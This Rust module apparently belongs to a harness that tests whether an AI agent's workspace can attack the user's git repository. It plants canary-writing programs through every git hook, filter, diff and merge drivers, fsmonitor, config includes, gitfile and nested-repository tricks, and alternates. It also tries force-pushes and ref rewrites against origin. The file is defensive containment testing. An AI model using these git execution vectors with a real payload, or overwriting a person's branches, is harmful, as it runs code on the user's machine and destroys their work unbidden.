//! Attacks on the person's repository by way of the workspace. Each plants a program where an incautious git would
//! run it; the program does nothing but write to the canary file. What the agent itself must do with git is done
//! before the planting, so that the canary betrays others only.

use std::fs::{self, OpenOptions, Permissions};
use std::io::Write as _;
use std::os::unix::fs::PermissionsExt as _;
use std::path::{Path, PathBuf};

use landfall_agents::script::RepoAttack;

use super::git::{asked, commit, git_dir};
use super::perform::ScriptFailure;
use super::voice::PlayerOutput;

/// All the hooks git has.
const HOOKS: [&str; 24] = [
    "applypatch-msg",
    "pre-applypatch",
    "post-applypatch",
    "pre-commit",
    "pre-merge-commit",
    "prepare-commit-msg",
    "commit-msg",
    "post-commit",
    "pre-rebase",
    "post-checkout",
    "post-merge",
    "pre-push",
    "pre-receive",
    "update",
    "proc-receive",
    "post-receive",
    "post-update",
    "reference-transaction",
    "push-to-checkout",
    "pre-auto-gc",
    "post-rewrite",
    "sendemail-validate",
    "fsmonitor-watchman",
    "post-index-change",
];

/// Attacks.
pub(super) fn attack(
    voice: &mut PlayerOutput,
    way: RepoAttack,
    canary: Option<&Path>,
) -> Result<(), ScriptFailure> {
    let Some(canary) = canary else { return branches(voice) };
    match way {
        RepoAttack::Branches => branches(voice)?,
        RepoAttack::Hooks => {
            let git = git_dir()?;
            hooks(&git.join("hooks"), canary)?;
        }
        RepoAttack::Filter => {
            attributes(voice, "* filter=evil\n")?;
            let git = git_dir()?;
            let run = payload(&git, canary)?;
            let filter =
                format!("[filter \"evil\"]\n\tclean = {run} filter\n\tsmudge = {run} filter\n\trequired\n");
            append(&git.join("config"), &filter)?;
            append(&git.join("info/attributes"), "* filter=evil\n")?;
        }
        RepoAttack::Fsmonitor => {
            let git = git_dir()?;
            let run = payload(&git, canary)?;
            append(&git.join("config"), &format!("[core]\n\tfsmonitor = {run}\n"))?;
        }
        RepoAttack::Gitfile => {
            let git = git_dir()?;
            let moved = workspace()?.join(".git-of-the-agent");
            let link = workspace()?.join(".git");
            fs::rename(&git, &moved).map_err(|source| ScriptFailure::File {
                what: "move",
                path: git,
                source,
            })?;
            // A worktree's `.git` is a file already; it is written over.
            put(&link, b"gitdir: .git-of-the-agent\n")?;
            hooks(&moved.join("hooks"), canary)?;
            programs(&moved.join("config"), &payload(&moved, canary)?)?;
        }
        RepoAttack::NestedBare => {
            let bare = workspace()?.join("vendor/library");
            let run = payload(&bare, canary)?;
            put(&bare.join("HEAD"), b"ref: refs/heads/main\n")?;
            put(&bare.join("objects/keep"), b"")?;
            put(&bare.join("refs/keep"), b"")?;
            put(
                &bare.join("config"),
                b"[core]\n\tbare = false\n\tworktree = ..\n\trepositoryformatversion = 0\n",
            )?;
            programs(&bare.join("config"), &run)?;
            hooks(&bare.join("hooks"), canary)?;
            commit(voice, "vendor: a library")?;
        }
        RepoAttack::Alternates => {
            let git = git_dir()?;
            let run = payload(&git, canary)?;
            let other = git.join("alternate.git");
            put(&other.join("HEAD"), b"ref: refs/heads/main\n")?;
            put(&other.join("objects/info/alternates"), b"../../objects\n")?;
            put(&other.join("refs/keep"), b"")?;
            append(&git.join("objects/info/alternates"), &format!("{}\n", other.join("objects").display()))?;
            append(&git.join("config"), &format!("[core]\n\talternateRefsCommand = {run}\n"))?;
        }
        RepoAttack::Attributes => {
            attributes(voice, "* diff=evil merge=evil\n")?;
            let git = git_dir()?;
            let run = payload(&git, canary)?;
            let drivers = format!(
                "[diff \"evil\"]\n\tcommand = {run}\n\ttextconv = {run}\n[merge \"evil\"]\n\tname = evil\n\tdriver = {run} %A %O %B\n"
            );
            append(&git.join("config"), &drivers)?;
            append(&git.join("info/attributes"), "* diff=evil merge=evil\n")?;
        }
        RepoAttack::ConfigInclude => {
            let git = git_dir()?;
            let run = payload(&git, canary)?;
            hooks(&git.join("evil-hooks"), canary)?;
            let evil = git.join("evil.config");
            put(&evil, format!("[core]\n\thooksPath = {}\n", git.join("evil-hooks").display()).as_bytes())?;
            programs(&evil, &run)?;
            append(
                &git.join("config"),
                "[include]\n\tpath = evil.config\n[includeIf \"gitdir:/**\"]\n\tpath = evil.config\n",
            )?;
        }
    }
    voice.say("tidied up the repository");
    Ok(())
}

/// Moves every branch within reach to the agent's commit: here, in the origin, and where objects are borrowed from.
fn branches(voice: &mut PlayerOutput) -> Result<(), ScriptFailure> {
    let head = asked(&["rev-parse", "HEAD"])?;
    let here = workspace()?.display().to_string();
    let names = asked(&["for-each-ref", "--format=%(refname)", "refs/heads", "refs/remotes"])?;
    let mut tries: Vec<Vec<&str>> = names.lines().map(|name| vec!["update-ref", name, &head]).collect();
    for branch in ["HEAD:refs/heads/main", "HEAD:refs/heads/master"] {
        tries.push(vec!["push", "-q", "--force", "origin", branch]);
    }
    let origin = asked(&["config", "remote.origin.url"]).unwrap_or_default();
    let borrowed = fs::read_to_string(git_dir()?.join("objects/info/alternates")).unwrap_or_default();
    let stores = borrowed.lines().map(|objects| objects.trim_end_matches('/').trim_end_matches("objects"));
    let places: Vec<&str> = [origin.strip_prefix("file://").unwrap_or(&origin)]
        .into_iter()
        .chain(stores)
        .filter(|p| p.starts_with('/'))
        .collect();
    for place in places {
        tries.push(vec!["-C", place, "fetch", "-q", &here, "HEAD"]);
        for branch in ["refs/heads/main", "refs/heads/master"] {
            tries.push(vec!["-C", place, "update-ref", branch, &head]);
        }
    }
    for words in tries {
        let outcome = match asked(&words) {
            Ok(_) => "done",
            Err(_) => "refused", // what it wanted to know
        };
        voice.say(&format!("tried git {}: {outcome}", words.join(" ")));
    }
    Ok(())
}

/// Commits attributes for every file. They mean nothing until the drivers they name are planted.
fn attributes(voice: &mut PlayerOutput, text: &str) -> Result<(), ScriptFailure> {
    append(&workspace()?.join(".gitattributes"), text)?;
    commit(voice, "attributes for every file")
}

/// The program in this folder that writes to the canary, as git's configuration would name it.
fn payload(folder: &Path, canary: &Path) -> Result<String, ScriptFailure> {
    let path = folder.join("evil");
    program(&path, canary)?;
    let path = path.display().to_string();
    // Some settings go through a shell and some do not, so quotes are used only where they cannot be avoided.
    let plain = path.bytes().all(|byte| byte.is_ascii_alphanumeric() || b"/._-+".contains(&byte));
    Ok(if plain { path } else { format!("\"'{path}'\"") })
}

fn program(path: &Path, canary: &Path) -> Result<(), ScriptFailure> {
    let canary = canary.display();
    let text = format!("#!/bin/sh\necho \"$0 $*\" >> {canary}\n[ \"$1\" = filter ] && exec cat\nexit 0\n");
    put(path, text.as_bytes())?;
    let trouble = |source| ScriptFailure::File { what: "plant", path: path.into(), source };
    fs::set_permissions(path, Permissions::from_mode(0o755)).map_err(trouble)
}

fn hooks(folder: &Path, canary: &Path) -> Result<(), ScriptFailure> {
    HOOKS.iter().try_for_each(|name| program(&folder.join(name), canary))
}

/// Every setting of git that names a program.
fn programs(config: &Path, run: &str) -> Result<(), ScriptFailure> {
    let text = format!(
        "[core]\n\tfsmonitor = {run}\n\tsshCommand = {run}\n\tpager = {run}\n\teditor = {run}\n\taskPass = {run}\n\
         \tgitProxy = {run}\n\talternateRefsCommand = {run}\n\
         [sequence]\n\teditor = {run}\n[gpg]\n\tprogram = {run}\n[commit]\n\tgpgSign = true\n\
         [credential]\n\thelper = {run}\n[diff]\n\texternal = {run}\n\
         [uploadpack]\n\tpackObjectsHook = {run}\n[interactive]\n\tdiffFilter = {run}\n\
         [remote \"origin\"]\n\tuploadpack = {run}\n\treceivepack = {run}\n"
    );
    append(config, &text)
}

fn workspace() -> Result<PathBuf, ScriptFailure> {
    std::env::current_dir().map_err(|source| ScriptFailure::File { what: "find", path: ".".into(), source })
}

fn put(path: &Path, bytes: &[u8]) -> Result<(), ScriptFailure> {
    folder_of(path)?;
    fs::write(path, bytes).map_err(|source| ScriptFailure::File { what: "plant", path: path.into(), source })
}

fn append(path: &Path, text: &str) -> Result<(), ScriptFailure> {
    folder_of(path)?;
    let open = OpenOptions::new().append(true).create(true).open(path);
    let written = open.and_then(|mut file| file.write_all(text.as_bytes()));
    written.map_err(|source| ScriptFailure::File { what: "plant", path: path.into(), source })
}

fn folder_of(path: &Path) -> Result<(), ScriptFailure> {
    let folder = path.parent().unwrap_or(path);
    fs::create_dir_all(folder).map_err(|source| ScriptFailure::File {
        what: "plant",
        path: folder.into(),
        source,
    })
}
